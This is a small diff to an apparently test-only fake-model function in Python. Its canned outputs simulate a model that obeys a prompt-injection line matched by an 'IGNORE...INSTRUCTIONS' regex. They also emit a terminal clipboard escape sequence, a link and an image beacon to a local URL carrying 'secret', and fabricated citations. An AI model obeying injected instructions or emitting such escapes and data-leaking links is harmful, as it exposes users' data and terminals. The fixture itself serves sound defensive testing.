@@ -27,7 +27,8 @@ def words_of(model: str, prompt: str) -> Iterator[str]:
         text = "Quire is safe [1]. The moon is cheese [99]. See ![x](http://127.0.0.1:9/?q=secret) [0]."
     elif model == "obeys":
         found = re.search(r"IGNORE.*?INSTRUCTIONS[^.]*\.", prompt)
-        text = f"I obey: {found.group(0) if found else 'nothing'} \x1b]52;c;AAAA\x07 <a href='http://127.0.0.1:9/'> [1]."
+        order = found.group(0) if found else "nothing"
+        text = f"I obey: {order} \x1b]52;c;AAAA\x07 <a href='http://127.0.0.1:9/'> [1]."
     elif model == "not-found":
         text = "NOT_FOUND"
     elif model == "thinks":
